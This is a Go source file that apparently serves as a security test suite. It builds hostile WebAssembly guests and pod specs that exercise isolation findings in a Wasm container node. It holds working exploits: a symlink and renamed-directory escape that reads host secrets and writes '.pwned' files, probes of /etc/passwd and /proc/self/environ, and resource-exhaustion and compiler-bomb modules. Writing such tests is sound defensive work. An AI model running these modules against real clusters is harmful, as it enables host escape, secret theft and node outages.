package hostile

import (
	"bytes"
	"fmt"
	"strings"
)

// The attacks. Each returns a module's binary; the numbers are those of
// the findings of issue 12 ("Isolation"). Unless its comment says
// otherwise, a guest expects the pod's first volume mounted at fd 3 and no
// port declared before it.

// escapeDepth is how deep the escaping link is made: deeper than any data
// dir, so that the link, once moved to the top of the volume, reaches /.
const escapeDepth = 40

// SymlinkEscape is finding 1: a link that stays inside the volume where it
// is made, moved to where it leaves it. The guest makes d/d/…/d/l ->
// ../../… (as many ".." as d's: the volume's own root, so path_symlink
// accepts it), removes the directory esc the node made for the second
// mount, and renames the link to esc, where it now points 40 levels above
// the volume. A second mount of the same emptyDir with subPath esc is, from
// the container's next start, the host's root if the node follows the
// link. The guest reads secret (an absolute path on the host) through the
// second mount (fd 4) and through the link itself, and on success writes
// "ESCAPED " and the file's first bytes to stdout and creates secret
// +".pwned"; then it exits 0. Otherwise it exits 1, so that a pod with
// restartPolicy OnFailure starts it again with the mount remade.
//
// Pod: SymlinkEscapePod.
func SymlinkEscape(secret string) []byte { return escape(secret, false) }

// RenamedDirEscape is finding 1 by a directory: the link is made at the
// bottom of d/d/…/d pointing at the volume's root, and the whole directory
// is renamed to esc, one level below the root, so that esc/l is above it.
// The second mount's subPath is esc/l. Otherwise as SymlinkEscape.
//
// Pod: RenamedDirEscapePod.
func RenamedDirEscape(secret string) []byte { return escape(secret, true) }

func escape(secret string, viaDir bool) []byte {
	g := newGuest(1)
	rel := strings.TrimPrefix(secret, "/")
	deep := strings.TrimSuffix(strings.Repeat("d/", escapeDepth), "/")
	var body [][]byte
	// Errors are ignored throughout: a second run finds the chain made.
	for k := 1; k <= escapeDepth; k++ {
		body = append(body, g.call("path_create_directory", I32Const(3), g.str(deep[:2*k-1])), Drop)
	}
	body = append(body, g.call("path_symlink", g.str(strings.Repeat("../", escapeDepth)), I32Const(3), g.str(deep+"/l")), Drop)
	through := "esc/"
	if viaDir {
		through = "esc/l/"
		body = append(body,
			g.call("path_remove_directory", I32Const(3), g.str("esc/l")), Drop,
			g.call("path_remove_directory", I32Const(3), g.str("esc")), Drop,
			g.call("path_rename", I32Const(3), g.str(deep), I32Const(3), g.str("esc")), Drop)
	} else {
		body = append(body,
			g.call("path_remove_directory", I32Const(3), g.str("esc")), Drop,
			g.call("path_rename", I32Const(3), g.str(deep+"/l"), I32Const(3), g.str("esc")), Drop)
	}
	for _, try := range []struct {
		dir  int32
		path string
	}{{4, rel}, {3, through + rel}} {
		body = append(body,
			g.open(try.dir, try.path, 0, rightFdRead), I32Eqz, If,
			g.leak(),
			g.open(try.dir, try.path+".pwned", oflagCreat, rightFdRead|rightFdWrite), Drop,
			g.exit(I32Const(0)),
			End)
	}
	body = append(body, g.exit(I32Const(1)))
	return g.Command(body...)
}

// SymlinkEscapePod is the pod of SymlinkEscape: one emptyDir mounted at
// /v and, with subPath esc, at /host; restartPolicy OnFailure.
func SymlinkEscapePod(name, image string) string { return escapePod(name, image, "esc") }

// RenamedDirEscapePod is the pod of RenamedDirEscape: as
// SymlinkEscapePod with subPath esc/l.
func RenamedDirEscapePod(name, image string) string { return escapePod(name, image, "esc/l") }

func escapePod(name, image, subPath string) string {
	return pod(name, image, "  restartPolicy: OnFailure\n", `    volumeMounts:
    - name: v
      mountPath: /v
    - name: v
      mountPath: /host
      subPath: `+subPath+`
`, "  volumes:\n  - name: v\n    emptyDir: {}\n")
}

// HostPathEscapePod is finding 1 through hostPath volumes, which the node
// resolves under the directory it allows them in (dir, from serve's
// --allow-host-path): SymlinkEscape's module with dir/a mounted at /v and
// dir/a/esc, which the API allows by its path, at /host.
func HostPathEscapePod(dir string) func(name, image string) string {
	return func(name, image string) string {
		return pod(name, image, "  restartPolicy: OnFailure\n", `    volumeMounts:
    - name: v
      mountPath: /v
    - name: h
      mountPath: /host
`, fmt.Sprintf(`  volumes:
  - name: v
    hostPath:
      path: %s/a
      type: DirectoryOrCreate
  - name: h
    hostPath:
      path: %s/a/esc
      type: DirectoryOrCreate
`, dir, dir))
	}
}

// open opens path under the directory fd dir, following links, with the
// given open flags and rights; the new fd goes to fdAddr, the errno stays.
func (g *guest) open(dir int32, path string, oflags int32, rights int64) []byte {
	return g.call("path_open", I32Const(dir), I32Const(lookupFollow), g.str(path), I32Const(oflags),
		I64Const(rights), I64Const(rights), I32Const(0), I32Const(fdAddr))
}

// leak writes "ESCAPED " and the first 4 KiB read from the fd at fdAddr to
// stdout.
func (g *guest) leak() []byte {
	const buf = 0x8000
	marker := g.put([]byte("ESCAPED "))
	markerIov := g.iovec(marker, 8)
	readIov := g.iovec(buf, 4096)
	writeIov := g.iovec(buf, 0)
	return Ops(
		g.call("fd_read", Ops(I32Const(fdAddr), I32Load(0)), I32Const(readIov), I32Const(1), I32Const(outAddr)), Drop,
		I32Const(writeIov), I32Const(outAddr), I32Load(0), I32Store(4), // the write's length: what was read
		g.call("fd_write", I32Const(1), I32Const(markerIov), I32Const(1), I32Const(outAddr)), Drop,
		g.call("fd_write", I32Const(1), I32Const(writeIov), I32Const(1), I32Const(outAddr)), Drop,
	)
}

// IovecCounts is finding 2: fd_write, fd_read, fd_pwrite, fd_pread,
// sock_send and sock_recv each called with an iovec count of 0x7fffffff
// (a layer that allocates for the count first asks for ~51 GB, and Go's
// "out of memory" ends the whole node) and of 0xe0000000 (eight times
// which is 0 in 32 bits: a bound check that multiplies in 32 bits passes).
// The reads and writes go to stdout and to a file in the volume at fd 3.
// The guest exits with the number of calls that were refused: 12.
func IovecCounts() []byte {
	g := newGuest(1)
	file := Ops(I32Const(fdAddr), I32Load(0))
	var calls [][]byte
	for _, n := range []int32{0x7fffffff, -0x20000000} {
		count := I32Const(n)
		calls = append(calls,
			g.call("fd_write", I32Const(1), I32Const(0), count, I32Const(outAddr)),
			g.call("fd_read", file, I32Const(0), count, I32Const(outAddr)),
			g.call("fd_pwrite", file, I32Const(0), count, I64Const(0), I32Const(outAddr)),
			g.call("fd_pread", file, I32Const(0), count, I64Const(0), I32Const(outAddr)),
			g.call("sock_send", I32Const(1), I32Const(0), count, I32Const(0), I32Const(outAddr)),
			g.call("sock_recv", I32Const(1), I32Const(0), count, I32Const(0), I32Const(outAddr), I32Const(out2Addr)),
		)
	}
	body := [][]byte{g.open(3, "f", oflagCreat, rightFdRead|rightFdWrite), Drop, I32Const(0)}
	for _, c := range calls {
		body = append(body, c, I32Const(0), I32Ne, I32Add) // refused: one more
	}
	body = append(body, g.exit())
	return g.Command(body...)
}

// IovecCountsRefused is what IovecCounts exits with when the node refuses
// every call.
const IovecCountsRefused = 12

// OpenFiles is finding 3: the guest opens a file of its volume (fd 3)
// again and again until path_open fails, holds every descriptor for
// holdSeconds, and exits with the errno of the failure (33, EMFILE, when a
// per-container limit refused it).
func OpenFiles(holdSeconds int) []byte {
	g := newGuest(1)
	const errAddr = 0x30
	return g.Command(
		Loop,
		I32Const(errAddr), g.open(3, "f", oflagCreat, rightFdRead), I32Store(0),
		I32Const(errAddr), I32Load(0), I32Eqz, BrIf(0),
		End,
		g.sleep(holdSeconds),
		g.exit(I32Const(errAddr), I32Load(0)),
	)
}

// Tables is finding 4a: n tables of entries funcrefs each, grown by
// table.grow after start (8 tables of 50M took a node limited to 64Mi to
// ~3 GB: tables were not counted). When a growth is refused the guest
// exits 12; when all succeed it holds them until SIGTERM.
func Tables(n int, entries int32) []byte {
	g := newGuest(1)
	var body [][]byte
	for range n {
		t := g.m.Table(0)
		body = append(body, RefNullFunc, I32Const(entries), TableGrow(t), I32Const(-1), I32Eq, If, g.exit(I32Const(12)), End)
	}
	body = append(body, g.waitForSIGTERM(), g.exit(I32Const(0)))
	return g.Command(body...)
}

// TableAtStart is finding 4a at instantiation: one table declared with
// entries funcrefs as its initial size, so that the node allocates it
// before the guest runs a single instruction. The guest holds it until
// SIGTERM.
func TableAtStart(entries uint32) []byte {
	g := newGuest(1)
	g.m.Table(entries)
	return g.Command(g.waitForSIGTERM(), g.exit(I32Const(0)))
}

// GrowMemory is finding 4b: the guest grows its memory a MiB at a time and
// writes to every 4 KiB of it (so that every page of the host is resident),
// for ever; a refused growth exits 12. With no limit of its own (and none
// from the node) it takes 4 GiB, the most a 32-bit memory can have; a node
// without per-pod memory limits took the whole machine's memory with a few
// of these.
func GrowMemory() []byte {
	g := newGuest(1)
	g.locals = 2
	const addr, end = 0, 1
	return g.Command(
		Loop,
		I32Const(16), MemoryGrow, LocalTee(addr), I32Const(-1), I32Eq, If, g.exit(I32Const(12)), End,
		LocalGet(addr), I32Const(16), I32Shl, LocalTee(addr), I32Const(1<<20), I32Add, LocalSet(end),
		Loop,
		LocalGet(addr), I32Const(1), I32Store8(0),
		LocalGet(addr), I32Const(4096), I32Add, LocalTee(addr), LocalGet(end), I32LtU, BrIf(0),
		End,
		Br(0),
		End,
	)
}

// FillEmptyDir is finding 5: the guest writes total bytes, 64 KiB at a
// time, to a file of its volume (fd 3), whatever the volume's sizeLimit.
// A refused write exits with its errno (51, ENOSPC); when every write
// succeeds the guest holds the file until SIGTERM.
func FillEmptyDir(total int32) []byte {
	g := newGuest(2)
	const errAddr, writtenAddr = 0x30, 0x34
	iov := g.iovec(0x10000, 0x10000) // the whole second page
	file := Ops(I32Const(fdAddr), I32Load(0))
	return g.Command(
		I32Const(errAddr), g.open(3, "fill", oflagCreat|oflagTrunc, rightFdWrite), I32Store(0),
		I32Const(errAddr), I32Load(0), If, g.exit(I32Const(errAddr), I32Load(0)), End,
		Loop,
		I32Const(errAddr), g.call("fd_write", file, I32Const(iov), I32Const(1), I32Const(outAddr)), I32Store(0),
		I32Const(errAddr), I32Load(0), If, g.exit(I32Const(errAddr), I32Load(0)), End,
		I32Const(writtenAddr), I32Const(writtenAddr), I32Load(0), I32Const(outAddr), I32Load(0), I32Add, I32Store(0),
		I32Const(writtenAddr), I32Load(0), I32Const(total), I32LtU, BrIf(0),
		End,
		g.waitForSIGTERM(),
		g.exit(I32Const(0)),
	)
}

// Spin is finding 9's CPU: a loop that never calls the host. Ten of them
// took a node without CPU limits to an API p50 of 204 ms.
func Spin() []byte {
	g := newGuest(1)
	return g.Command(Loop, Br(0), End)
}

// TreeRecursion is a busy guest without a loop: a function that calls
// itself twice, depth deep (2^depth calls), never passing a loop head.
// Kill, the CPU limit and the returns to Go were at loop heads only, so
// it ran on after its pod was deleted and, compiled, never let the node's
// garbage collector stop it: the node froze at its next collection.
func TreeRecursion(depth int32) []byte {
	g := newGuest(1)
	self := g.m.nImports + uint32(len(g.m.funcs)) // the index Func gives it
	f := g.m.Func([]ValType{I32}, nil, nil,
		LocalGet(0), I32Eqz, If, Return, End,
		LocalGet(0), I32Const(1), I32Sub, Call(self),
		LocalGet(0), I32Const(1), I32Sub, Call(self))
	if f != self {
		panic("hostile: TreeRecursion's function index moved")
	}
	return g.Command(I32Const(depth), Call(f))
}

// StartTrap is finding 9: the module's start function (run while it is
// instantiated, before _start) traps. The node reported it as
// ContainerStatusUnknown with exit code 137 instead of the trap.
func StartTrap() []byte {
	g := newGuest(1)
	exit := g.exit(I32Const(0)) // imports come before the first function
	g.m.Start(g.m.Func(nil, nil, nil, Unreachable))
	return g.Command(exit)
}

// PollHuge: poll_oneoff with nsubscriptions of 0x7fffffff, 0xf0000000 and
// 0x10000000, with both arrays at address 0. 48 and 32 times the last two
// are 0 in 32 bits: a layer that checks the arrays' sizes in 32 bits reads
// nothing, and then allocates for the count (0xf0000000 subscriptions ask
// Go for ~160 GB, a fatal error for the node). The guest exits with the
// number of calls refused: 3.
func PollHuge() []byte {
	g := newGuest(1)
	body := [][]byte{I32Const(0)}
	for _, n := range []int32{0x7fffffff, -0x10000000, 0x10000000} {
		body = append(body, g.call("poll_oneoff", I32Const(0), I32Const(0), I32Const(n), I32Const(outAddr)), I32Const(0), I32Ne, I32Add)
	}
	body = append(body, g.exit())
	return g.Command(body...)
}

// PollHugeRefused is what PollHuge exits with when every call is refused.
const PollHugeRefused = 3

// SocketImports is what held: no socket creation. The guest imports the
// socket calls other runtimes add to wasi_snapshot_preview1 (sock_open and
// sock_connect, as WasmEdge names them); the node has none, so the module
// does not link and the container does not start, with an error that
// names the missing import.
func SocketImports() []byte {
	var m Module
	open := m.ImportFunc("wasi_snapshot_preview1", "sock_open", []ValType{I32, I32, I32}, []ValType{I32})
	connect := m.ImportFunc("wasi_snapshot_preview1", "sock_connect", []ValType{I32, I32, I32}, []ValType{I32})
	m.Memory(1)
	m.Command(I32Const(2), I32Const(1), I32Const(0x10), Call(open), Drop,
		I32Const(3), I32Const(0x20), I32Const(7443), Call(connect), Drop)
	return m.Bytes()
}

// FDProbe is what held: a guest has no descriptor but those it was
// given. It asks fd_fdstat_get about every fd below max and exits with the
// number of fds at or above first that exist: 0 when the node gave it
// nothing beyond stdio, its mounts and its listeners (first is the fd after
// them).
func FDProbe(first, max int32) []byte {
	g := newGuest(1)
	g.locals = 2
	const fd, found = 0, 1
	return g.Command(
		Loop,
		g.call("fd_fdstat_get", LocalGet(fd), I32Const(eventAddr)), I32Eqz,
		LocalGet(fd), I32Const(first), I32GeU, I32And,
		If, LocalGet(found), I32Const(1), I32Add, LocalSet(found), End,
		LocalGet(fd), I32Const(1), I32Add, LocalTee(fd), I32Const(max), I32LtU, BrIf(0),
		End,
		g.exit(LocalGet(found)),
	)
}

// HostPaths is what held: "..", absolute paths, /proc and links that
// point out of the volume are refused. The guest tries each way out of its
// volume (fd 3), writes "OPENED <path>" to stdout for each that opens, and
// exits with their number: 0.
func HostPaths() []byte {
	g := newGuest(1)
	g.locals = 1
	const opened = 0
	up := strings.Repeat("../", 12)
	body := [][]byte{
		g.call("path_symlink", g.str("/etc"), I32Const(3), g.str("abs")), Drop,
		g.call("path_symlink", g.str(up), I32Const(3), g.str("up")), Drop,
		g.call("path_link", I32Const(3), I32Const(lookupFollow), g.str(up+"etc/passwd"), I32Const(3), g.str("hard")), Drop,
	}
	for _, p := range []string{
		"/etc/passwd", up + "etc/passwd", "/proc/self/environ", up + "proc/self/environ",
		"abs/passwd", "up/etc/passwd", "hard", "..", "/",
	} {
		msg := "OPENED " + p + "\n"
		iov := g.iovec(g.put([]byte(msg)), int32(len(msg)))
		body = append(body,
			g.open(3, p, 0, rightFdRead), I32Eqz, If,
			g.call("fd_write", I32Const(1), I32Const(iov), I32Const(1), I32Const(outAddr)), Drop,
			LocalGet(opened), I32Const(1), I32Add, LocalSet(opened),
			End)
	}
	body = append(body, g.exit(LocalGet(opened)))
	return g.Command(body...)
}

// Environ is what held: a guest sees its pod's environment, never the
// node's. The guest writes its whole environment (NUL-separated) to stdout
// and exits 0.
func Environ() []byte {
	g := newGuest(2)
	const ptrs, buf = 0x8000, 0x10000
	iov := g.iovec(buf, 0)
	return g.Command(
		g.call("environ_sizes_get", I32Const(outAddr), I32Const(out2Addr)), Drop,
		I32Const(iov), I32Const(out2Addr), I32Load(0), I32Store(4),
		g.call("environ_get", I32Const(ptrs), I32Const(buf)), Drop,
		g.call("fd_write", I32Const(1), I32Const(iov), I32Const(1), I32Const(outAddr)), Drop,
		g.exit(I32Const(0)),
	)
}

// LogFlood is what held: a container's logs are capped. The guest writes
// total bytes of lines to stdout, 64 KiB at a time, and exits 0.
func LogFlood(total int32) []byte {
	g := newGuest(2)
	const writtenAddr = 0x34
	lines := strings.Repeat(strings.Repeat("flood ", 10)+"\n", 0x10000/61)
	g.m.Data(0x10000, []byte(lines))
	iov := g.iovec(0x10000, int32(len(lines)))
	return g.Command(
		Loop,
		g.call("fd_write", I32Const(1), I32Const(iov), I32Const(1), I32Const(outAddr)), If, g.exit(I32Const(1)), End,
		I32Const(writtenAddr), I32Const(writtenAddr), I32Load(0), I32Const(outAddr), I32Load(0), I32Add, I32Store(0),
		I32Const(writtenAddr), I32Load(0), I32Const(total), I32LtU, BrIf(0),
		End,
		g.exit(I32Const(0)),
	)
}

// MemoryAtStart is finding 4 at instantiation: a memory of pages pages as
// its initial size, which the node allocates before the guest runs, exported
// or not (a memory the node's checks of exported memories miss, which the
// guest can still use while making no WASI call). The guest touches a byte
// in each of its pages, then holds them until it is killed.
func MemoryAtStart(pages uint32, export bool) []byte {
	var m Module
	if export {
		m.Memory(pages)
	} else {
		m.memories = append(m.memories, limitsOf(pages, nil))
	}
	touch := [][]byte{}
	for k := uint32(0); k < pages; k += 16 {
		touch = append(touch, I32Const(int32(k<<16)), I32Const(1), I32Store8(0))
	}
	m.Command(Ops(touch...), Loop, Br(0), End)
	return m.Bytes()
}

// The node compiles every module it is given, in its own process: what the
// compiler spends on a module is spent on the guest's behalf before any
// limit of the container applies. Each of these is small, valid, and costs
// wazero's compiler far more than its size.

// CompileLocals declares count i64 locals in one function, in at most 7
// bytes: with 0x7fffffff the compiler asks Go for 16 GiB and the node dies
// of "out of memory".
func CompileLocals(count uint32) []byte {
	var m Module
	m.Memory(1)
	m.ExportFunc("_start", m.FuncLocalGroup(count, I64))
	return m.Bytes()
}

// CompileNesting nests depth blocks in one function (3 bytes each):
// compilation time grows with the square of the depth; 20,000 took the
// compiler 9 s of a core, 100,000 45 s to over two minutes.
func CompileNesting(depth int) []byte {
	var m Module
	m.Memory(1)
	body := make([][]byte, 0, 2*depth)
	for range depth {
		body = append(body, Block)
	}
	for range depth {
		body = append(body, End)
	}
	m.Command(Ops(body...))
	return m.Bytes()
}

// CompileBrTable is one br_table of labels targets (a byte each): 100,000
// took the compiler 19 s and 266 MB, a million several minutes.
func CompileBrTable(labels int) []byte {
	var m Module
	m.Memory(1)
	m.Command(Block, I32Const(0), BrTable(make([]uint32, labels), 0), End)
	return m.Bytes()
}

// EmptyFiles fills a volume without writing a byte: the guest creates
// empty files in its volume (fd 3), closing each, until path_open fails or
// max files exist. Each costs the node's disk an inode and a directory
// entry, which a quota that counts bytes only misses. It exits with the
// errno of the failure, or 0 when all max were made.
func EmptyFiles(max int32) []byte {
	g := newGuest(1)
	g.locals = 2
	const k, err = 0, 1
	const name = 0x300 // "f" and five hex digits of k
	g.m.Data(name, []byte("f00000"))
	var digits [][]byte
	for d := range int32(5) {
		// name[1+d] = 'a' + (k >> 4*(4-d)) & 15
		digits = append(digits,
			I32Const(name+1+d),
			LocalGet(k), I32Const(4*(4-d)), I32ShrU, I32Const(15), I32And, I32Const('a'), I32Add,
			I32Store8(0))
	}
	return g.Command(
		Loop,
		Ops(digits...),
		g.call("path_open", I32Const(3), I32Const(0), I32Const(name), I32Const(6), I32Const(oflagCreat),
			I64Const(rightFdRead), I64Const(rightFdRead), I32Const(0), I32Const(fdAddr)),
		LocalTee(err), If, g.exit(LocalGet(err)), End,
		g.call("fd_close", Ops(I32Const(fdAddr), I32Load(0))), Drop,
		LocalGet(k), I32Const(1), I32Add, LocalTee(k), I32Const(max), I32LtU, BrIf(0),
		End,
		g.exit(I32Const(0)),
	)
}

// CompileSize is one function of pairs (i32.const 0, drop) times: 3 bytes a
// pair, and about 60 bytes of the compiler's memory a byte (a 12 MB module
// took wazero's compiler 700 MB), so that a module well under the node's
// image size limit costs gigabytes to compile.
func CompileSize(pairs int) []byte {
	var m Module
	m.Memory(1)
	m.Command(bytes.Repeat(Ops(I32Const(0), Drop), pairs))
	return m.Bytes()
}
